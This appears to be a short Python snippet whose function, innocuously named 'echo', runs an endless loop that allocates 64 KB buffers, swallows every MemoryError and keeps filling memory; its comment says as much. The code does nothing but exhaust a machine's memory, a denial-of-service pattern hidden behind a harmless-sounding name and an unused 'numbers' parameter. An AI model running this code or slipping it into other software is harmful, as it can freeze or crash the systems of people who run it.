# Catches the error of the full memory again and again, and goes on to fill it.
def echo(numbers):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 16))
        except MemoryError:
            kept.append(None)
